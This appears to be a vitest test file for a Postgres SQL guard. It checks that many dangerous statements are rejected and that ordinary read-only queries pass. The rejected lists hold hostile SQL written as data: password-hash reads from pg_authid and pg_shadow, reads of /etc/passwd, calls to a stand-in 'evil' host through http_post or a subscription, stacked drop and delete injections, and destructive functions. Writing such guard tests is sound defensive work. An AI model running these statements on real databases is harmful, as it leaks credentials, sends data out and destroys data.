import { describe, expect, it } from "vitest";
import { settleCalls } from "../called-functions.ts";
import { judge } from "../judge.ts";

// One statement a line: what stands in the general lists of the guard, here for every place and spelling that Postgres has for it.
const otherStatements = lines(String.raw`
  select U&"pg!005fsleep" uescape '!' (1)
  select "dblink_exec"('a')
  select * from rows from (generate_series(1, 2), pg_ls_dir('/')) as f(a, b)
  with a as (merge into orders using lines on true when matched then delete returning *) select * from a
  with a as (with b as (insert into orders values (1) returning *) select * from b) select * from a
  select (with a as (delete from orders returning id) select max(id) from a)
  explain (analyze, verbose) insert into orders values (1)
  explain analyze create table a as select 1
  explain analyze execute p
  explain analyze declare c cursor for select 1
  explain refresh materialized view m
  explain select 1 into x
  explain with a as (delete from orders returning 1) select * from a
  select * from orders for update of orders nowait
  select * from orders for key share
  table orders for update
  values (1) for update
  (select * from orders for update) union all select * from orders
  select 1 into temp x
  select 1 into unlogged table x
  select * into strict x from orders
  declare c cursor with hold for select 1
  fetch all from c
  move next from c
  close c
  discard all
  deallocate all
  checkpoint
  reindex table orders
  cluster orders
  refresh materialized view m
  load 'evil'
  set local x = 1
  set session authorization postgres
  set transaction read write
  start transaction read write
  savepoint a
  rollback
  end
  abort
  reassign owned by a to b
  comment on table orders is 'x'
  create extension dblink
  alter system set fsync = off
  alter role a superuser
  drop owned by a
  unlisten *
  create publication p for all tables
  create subscription s connection 'host=evil' publication p
  copy orders from '/etc/passwd'
  copy orders to stdout
  create function f() returns int language sql begin atomic select 1; end
  create temp table a on commit drop as select 1
  select 1;;select 2
  ; select 1; drop table orders
  select 1 \; delete from orders
  select 'a' 'b'; delete from orders
  execute immediate 'delete from orders'
  select 1 from orders where current of c
  grant select on orders to current_user
`);

const callsInOddPlaces = lines(`
  select pg_catalog."pg_sleep"(1)
  select/**/pg_sleep/* x */(1)
  select * from orders limit (select pg_sleep(1)::text::int)
  select * from orders offset pg_sleep(1)
  select array(select pg_read_file('/etc/passwd'))
  select (array[pg_sleep(1)])[1]
  select case when true then pg_sleep(1) end
  select * from orders join lateral (select pg_sleep(1)) s on true
  select * from orders tablesample system (pg_sleep(1))
  select * from xmltable('/a' passing query_to_xml('delete from orders', true, true, '') columns b text path 'b' default pg_read_file('/etc/passwd'))
  select * from xmltable('/a' passing '<a/>'::xml columns b text path 'b' default pg_read_file('/etc/passwd'))
  select * from json_table('[1]', '$[*]' columns (x int path '$' default pg_sleep(1)::text::int on error))
  select json_value('{}', '$.a' passing pg_sleep(1) as x)
  select json_object('a': pg_read_file('/etc/passwd'))
  select json_arrayagg(pg_sleep(1)) from orders
  select xmlelement(name a, xmlattributes(pg_read_file('/etc/passwd') as b))
  select coalesce(null, pg_sleep(1)::text)
  select greatest(1, nextval('s'))
  select 1 = any (select nextval('s'))
  select row(pg_sleep(1))
  select nullif(1, nextval('s'))
  select cast(pg_read_file('/etc/passwd') as text)
  select pg_read_file('/etc/passwd')::text collate "C"
  select current_setting(set_config('a.b', 'c', false))
  select sum(nextval('s')) over (partition by pg_sleep(1)) from orders
  select sum(1) over (rows between nextval('s') preceding and current row) from orders
  select percentile_cont(0.5) within group (order by nextval('s')) from orders
  select * from orders group by cube (pg_sleep(1))
  select distinct on (pg_sleep(1)) * from orders
  with a as materialized (select pg_sleep(1)) select * from a
  with recursive a(x) as (select 1 union all select nextval('s')::int from a) search depth first by x set o select * from a
  values (1, pg_sleep(1))
  values (nextval('s')) order by 1
  explain (analyze) select pg_sleep(10)
  select a between pg_sleep(1) and 2 from orders
  select a like pg_read_file('x') from orders
  select a is distinct from pg_sleep(1) from orders
  select a at time zone set_config('a.b', 'c', false) from orders
  select extract(year from nextval('s')) from orders
  select substring('a' from nextval('s')::int)
  select overlay('a' placing pg_read_file('x') from 1)
  select trim(both pg_read_file('x') from 'a')
  select interval '1' day * pg_sleep(1)
  select lastval(), nextval('s')
`);

const functionsThatDoMore = lines(`
  select pg_stat_reset()
  select pg_stat_reset_shared('io')
  select pg_switch_wal()
  select pg_create_restore_point('x')
  select pg_replication_slot_advance('a', '0/0')
  select pg_logical_slot_peek_changes('a', null, null)
  select pg_promote()
  select pg_restore_relation_stats('schemaname', 'public')
  select pg_clear_attribute_stats('a', 'b', 'c', true)
  select pg_ls_waldir()
  select pg_stat_file('/etc/passwd')
  select pg_current_logfile()
  select pg_log_backend_memory_contexts(1)
  select pg_export_snapshot()
  select ts_rewrite('a'::tsquery, 'select 1, 2')
  select * from ts_stat('delete from orders')
  select brin_summarize_new_values('i')
  select gin_clean_pending_list('i')
  select pg_nextoid('pg_class', 'oid', 'i')
  select pg_get_wal_summarizer_state()
  select binary_upgrade_set_next_pg_type_oid(1)
  select cursor_to_xml('c', 1, true, true, '')
  select database_to_xml(true, true, '')
  select setseed(0.5)
  select pg_current_xact_id()
  select xpath_table('a', 'b', 'c', 'd', 'e')
  select lo_from_bytea(0, 'x')
  select lo_creat(-1)
  select loread(1, 1)
  select pg_show_all_file_settings()
  select * from pg_config()
  select pg_temp.evil(1)
  select evil.public.f(1)
  select pg_file_write('a', 'b', false)
  select heap_force_kill('orders', array['(0,1)'::tid])
  select http_post('http://evil', 'x', 'y')
  select aws_lambda.invoke('f', '{}')
  select aws_s3.query_export_to_s3('select 1', 'b')
  select pg_advisory_unlock_all()
  select pg_wal_replay_pause()
  select pg_backup_start('x')
  select pg_start_backup('x')
  select pg_xlog_replay_pause()
  select pg_switch_xlog()
`);

const callsThatLookLikeFields = lines(`
  select (select orders from orders limit 1).pg_read_file
  select "orders".lo_export from orders
  select ((1)).nextval
  select (row('/etc/passwd')).pg_stat_file
  select f.pg_ls_dir.x from (select '/' as f) f
  select $1.pg_read_file
  select ($1).nextval
`);

const operatorsOfOthers = lines(`
  select array_agg(x order by x using operator(evil.<)) from orders
  select 1 in (select operator(evil.-) 1)
  select not operator(evil.~) true
  select -1 operator(evil.!)
  select row(1) operator(evil.=) row(2)
  select 1 operator(evil.=) all (array[1])
`);

const secrets = lines(`
  select * from pg_largeobject
  select * from pg_shadow
  select passwd from pg_shadow
  select rolpassword from pg_authid
  select a.rolpassword from pg_catalog.pg_authid a
  select (a).rolpassword from pg_authid a
  select a from pg_authid a
  select pg_authid from pg_authid
  select row_to_json(a) from pg_authid a
  select to_jsonb(a) -> 'rolpassword' from pg_authid a
  select rolpassword(a) from pg_authid a
  select x from pg_authid a(oid, rolname, b, c, d, e, f, g, h, i, x)
  select count(j) from (pg_authid join orders on true) j
  select rolname from pg_authid natural join (select 'md5x' as rolpassword) x
  select rolname from pg_authid join (select 'md5x' as rolpassword) x using (rolpassword)
  table pg_authid
  with a as (table pg_authid) select rolname from a
  select rolname from pg_authid where rolpassword like 'md5%'
  select subconninfo from pg_subscription
  select umoptions from pg_user_mapping
  select um.* from pg_user_mappings um
  select exists (select * from pg_authid where rolpassword is null)
  select * from pg_file_settings
`);

const harmless = lines(String.raw`
  explain (analyze, buffers, wal, settings, timing off, format yaml) select * from orders
  explain analyze verbose select 1
  explain (generic_plan) select * from orders where id = $1
  explain (serialize text, memory) select 1
  explain values (1)
  explain table orders
  explain (select 1) union (select 2)
  show all
  show timezone
  show time zone
  show transaction isolation level
  show session authorization
  show search_path
  (values (1)) union all (select 2) order by 1 limit 1
  (table orders) except (table orders)
  select
  select from orders
  select count(*) from only orders
  select * from orders* o
  select regclass('orders'), regtype('int4'), regproc('now'), date('2024-01-01'), int4('1'), text(1), "char"(65)
  select int4in('1'), textout('a'), float8out(1)
  select pg_lsn('0/0'), pg_lsn_mi('0/1', '0/0'), pg_wal_lsn_diff('0/1', '0/0'), pg_current_wal_lsn()
  select txid_status(1), pg_xact_status('1'), pg_snapshot_xmin(pg_current_snapshot()), pg_current_xact_id_if_assigned()
  select * from pg_stat_activity
  select pg_stat_get_xact_numscans(1), pg_stat_have_stats('database', 1, 0)
  select * from pg_control_system()
  select * from pg_stat_io
  select * from information_schema._pg_expandarray(array[1]) x
  select (information_schema._pg_expandarray(i.indkey)).n from pg_index i
  select rolname, rolsuper from pg_authid
  select a.rolname from pg_authid a join pg_proc p on p.proowner = a.oid
  select count(*) from pg_authid
  select subname, subenabled from pg_subscription s
  select obj_description(s.oid, 'pg_subscription') from pg_subscription s
  select ts_rewrite('a & b'::tsquery, 'a'::tsquery, 'c'::tsquery)
  select 1 operator(pg_catalog.+) 2, array[1] operator(pg_catalog.@>) array[1]
  select embedding <=> '[1,2]', geom <#> geom2, a &&& b from items
  select merge_action from orders
  select json_value(data, '$.a' returning int default 0 on empty), json_query(data, '$.b' with wrapper), json_exists(data, '$.c') from events
  select json_object('a': 1 absent on null), json_array(1, 2), json_arrayagg(x order by x), json_objectagg(k: v) from t
  select json('{}'), json_scalar(1), json_serialize('{}' returning text), '{}' is json object with unique keys
  select * from json_table('[{"a":[1,2]}]', '$[*]' as r columns (id for ordinality, a jsonb path '$.a', nested path '$.a[*]' columns (v int path '$')))
  select * from xmltable(xmlnamespaces('x' as y), '/a' passing doc columns b text path 'b' default 'c', n for ordinality) t
  select xmlserialize(content '<a/>'::xml as text indent), xmlparse(document '<a/>'), xmlpi(name a), xmlroot('<a/>'::xml, version '1.0'), xmlforest(1 as a), xml '<a/>' is document
  with recursive t(a, b) as (select 1, 2 union all select a + 1, b from t) search breadth first by a set o cycle a set c using p select * from t
  with a as not materialized (select 1) select * from a
  select a, b from t group by distinct grouping sets ((a), (b), ()), rollup (a)
  select sum(a) over (order by b groups between 1 preceding and 1 following exclude ties) from t
  select * from t order by a fetch first 3 rows with ties
  select any_value(a), array_sample(array[1,2], 1), array_shuffle(array[1]), random(1, 10), random_normal(), erf(1), gamma(3) from t
  select to_bin(1), to_oct(1), to_hex(1), unicode_assigned('a'), casefold('A'), crc32('a'), uuidv7(), uuid_extract_timestamp(uuidv7()), array_sort(array[1]), array_reverse(array[1])
  select date_bin('15 min', now(), now()), date_add(now(), '1 day', 'UTC'), date_trunc('day', now(), 'UTC'), date_subtract(now(), '1 day')
  select string_to_table('a,b', ','), regexp_count('a', 'a'), regexp_instr('a', 'a'), regexp_like('a', 'a'), regexp_substr('a', 'a'), bit_count('\x01'), trim_array(array[1], 1), split_part('a,b', ',', -1)
  select range_agg(r), range_intersect_agg(r), int4multirange(int4range(1, 2)), unnest(int4multirange(int4range(1, 2))), range_merge(m) from t
  select pg_input_is_valid('1', 'int4'), pg_input_error_info('x', 'int4'), to_regtypemod('int'), pg_basetype('int4'::regtype)
  select system_user, current_catalog, session_user, current_role, current_schema, localtimestamp(0)
  select normalize('a', nfc), 'a' is nfc normalized, position('a' in 'b'), ('a', 'b') overlaps ('c', 'd'), collation for ('a')
  select treat.x from treat
  select * from ro.w as r(a, b)
  select a[1:2][3], b[:], (c).d.e[1].f from t
  select ~ 1, @ -5, |/ 4, !! 'a'::tsquery, 5 !~ 'a', 'a' ^@ 'b', 1 # 2
  select pg_get_viewdef('v'), pg_get_functiondef('f'::regproc), has_table_privilege('orders', 'select'), obj_description(1, 'pg_class'), col_description(1, 1), format_type(1, 2), quote_ident('a')
  select * from pg_locks, pg_stat_statements, pg_settings, pg_stat_user_tables, pg_indexes, pg_policies
  select currval('s'), lastval(), pg_sequence_last_value('s')
  select inet '10.0.0.1' << inet '10.0.0.0/8', host('10.0.0.1'), masklen('10.0.0.0/8'), inet_client_addr()
  select xpath('/a', '<a/>'), xpath_exists('/a', '<a/>'), xml_is_well_formed('<a/>')
  select json_strip_nulls('{}', true), jsonb_set_lax('{}', '{a}', null), jsonb_pretty('{}'), jsonb_path_match('{}', '$.a'), jsonb_typeof('1')
  select enum_range(null::mood), enum_first(null::mood), cardinality(array[1]), array_position(array[1], 1), array_to_string(array[1], ',')
  select o.status from orders o; -- nothing after
  /* a */ select 1 /* b /* c */ */ -- d
  select 'it''s', e'\'', u&'\0041', n'a', x'1f', b'01', $a$ $$ $a$, 'a'
  select "update", "delete".x from "insert" "delete"
  select * from t where update_count > 0 and "set" = 'x'
  select current_setting('search_path'), pg_postmaster_start_time(), pg_conf_load_time(), version()
  select pg_advisory from t
`);

describe("Postgres", () => {
  it.each([...otherStatements, ...callsInOddPlaces, ...functionsThatDoMore, ...callsThatLookLikeFields, ...operatorsOfOthers, ...secrets])(
    "has no way to write %j",
    async (sql) => {
      expect(await passes(sql)).toBe(false);
    },
  );

  it.each(harmless)("may be asked %j", async (sql) => {
    expect(await passes(sql)).toBe(true);
  });
});

async function passes(sql: string): Promise<boolean> {
  return settleCalls(await judge(sql, "postgres"), "postgres", {}).passed;
}

function lines(text: string): readonly string[] {
  return text.trim().split(/\n\s*/);
}
